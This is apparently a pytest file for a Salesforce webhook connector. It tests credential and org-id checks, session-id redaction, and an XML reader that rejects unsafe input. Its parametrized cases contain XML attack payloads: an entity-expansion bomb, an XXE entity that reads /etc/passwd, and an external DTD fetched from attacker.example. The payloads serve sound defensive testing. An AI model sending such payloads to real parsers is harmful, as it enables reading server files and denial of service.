"""Outbound Message verification: HTTP Basic credentials and the org id, and the XML reader that
refuses DTDs, entities and external references (read before anything is trusted)."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest

from connectors.base.inbound import BadPayload, Delivery, SignatureError
from connectors.base.signatures import basic_auth_header
from connectors.salesforce.inbound import (
    OrgNotConfigured,
    canonical_id,
    parse,
    read_xml,
    redact_session,
    same_org,
    verify,
)

FIXTURES = Path(__file__).parents[1] / "fixtures"
SECRET = "om-secret-6f1d2c"
ORG = "00D5g000004TuVwEAK"
NOW = datetime(2026, 11, 28, 12, 0, tzinfo=UTC)
BODY = (FIXTURES / "Lead__status.xml").read_bytes()


def delivery(body: bytes = BODY, org: str = ORG, auth: str | None = None) -> Delivery:
    headers = {"authorization": auth if auth is not None else basic_auth_header(SECRET)}
    return Delivery("salesforce", headers, body, NOW, config={"salesforce_org_id": org})


def refused(d: Delivery, words: str, secret: str | None = SECRET) -> None:
    with pytest.raises(SignatureError) as caught:
        verify(d, secret)
    assert words in caught.value.detail
    assert SECRET not in caught.value.detail


def test_valid():
    verify(delivery(), SECRET)


def test_wrong_password():
    refused(delivery(auth=basic_auth_header("guess")), "wrong HTTP Basic credentials")


def test_missing_credentials():
    refused(delivery(auth=""), "HTTP Basic credentials required")
    refused(delivery(auth="Bearer " + SECRET), "HTTP Basic credentials required")


def test_another_org():
    refused(delivery(org="00D5g000004TuVxEAK"), "is not the org in SALESFORCE_ORG_ID")


def test_credentials_are_checked_before_the_body_is_read():
    refused(delivery(body=b"<!DOCTYPE x>", auth=""), "HTTP Basic credentials required")


def test_unset_org_means_the_source_is_not_configured():
    with pytest.raises(OrgNotConfigured, match="SALESFORCE_ORG_ID"):
        verify(delivery(org=""), SECRET)


def test_unsigned_trials_still_check_a_configured_org():
    verify(delivery(auth=""), None)  # ALLOW_UNSIGNED_WEBHOOKS=1
    refused(delivery(org="00D5g000004TuVx", auth=""), "not the org", secret=None)
    verify(delivery(org="", auth=""), None)  # nothing configured at all: a local trial


@pytest.mark.parametrize(
    "configured",
    ["00D5g000004TuVwEAK", "00D5g000004TuVw", "00d5g000004tuvweak", " 00D5G000004TUVWEAK "],
)
def test_the_org_id_in_its_15_and_18_character_forms(configured):
    """Ids are case-sensitive in 15 characters; the 18-character form is not (its last three
    characters encode the case of the first 15), so both forms and any case of the 18 match."""
    assert same_org(ORG, configured)
    verify(delivery(org=configured), SECRET)


@pytest.mark.parametrize(
    "configured",
    ["00d5g000004tuvw", "00D5g000004TuVx", "00D5g000004TuVwAAA", "00D5g000004TuV", "", "x" * 18],
)
def test_org_ids_that_do_not_match(configured):
    assert not same_org(ORG, configured)


def test_canonical_id_restores_case_from_the_checksum():
    assert canonical_id("001A0000006Vm9rIAC") == "001A0000006Vm9r"  # the documented example
    assert canonical_id("001a0000006vm9riac") == "001A0000006Vm9r"
    assert canonical_id("001A0000006Vm9r") == "001A0000006Vm9r"
    assert canonical_id("001A0000006Vm9r!AC") is None
    assert canonical_id("001A0000006Vm9r6AC") is None  # 6 is not a suffix character
    assert canonical_id("0010000000000ZZZ") is None  # 16 characters
    assert canonical_id("00100000000000B") == "00100000000000B"
    assert canonical_id("001000000000000BAA") is None  # flags an uppercase digit


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;">]>
<lolz>&lol2;</lolz>"""
EXTERNAL = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>"""


@pytest.mark.parametrize(
    "body",
    [
        BILLION_LAUGHS,
        EXTERNAL,
        b'<!DOCTYPE foo SYSTEM "http://attacker.example/x.dtd"><foo/>',
        BILLION_LAUGHS.decode().encode("utf-16"),  # another encoding hides nothing
        b"<a>" * 40 + b"</a>" * 40,
    ],
)
def test_dtds_entities_and_deep_nesting_are_refused(body):
    with pytest.raises(BadPayload, match="XML refused"):
        read_xml(body)
    with pytest.raises(BadPayload):
        verify(delivery(body=body), SECRET)


@pytest.mark.parametrize("body", [b"", b"not xml", b"<a>", b"<a></b>", b'{"json": true}'])
def test_unparsable_bodies(body):
    with pytest.raises(BadPayload, match="not XML"):
        parse(Delivery("salesforce", {}, body, NOW))


def test_xml_that_is_not_an_outbound_message():
    with pytest.raises(BadPayload, match="no notifications element"):
        parse(Delivery("salesforce", {}, b"<notifications/>", NOW))  # outside the namespace


def test_utf16_messages_are_read():
    body = BODY.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    verify(delivery(body=body), SECRET)
    assert len(parse(Delivery("salesforce", {}, body, NOW)).events) == 2


def test_the_session_id_is_never_kept():
    body = BODY.replace(b'<SessionId xsi:nil="true"/>', b"<SessionId>00D5g!AQ4AQFake</SessionId>")
    kept = redact_session(body)
    assert b"AQ4AQFake" not in kept and b"<SessionId>[redacted]</SessionId>" in kept
    assert redact_session(BODY) == BODY
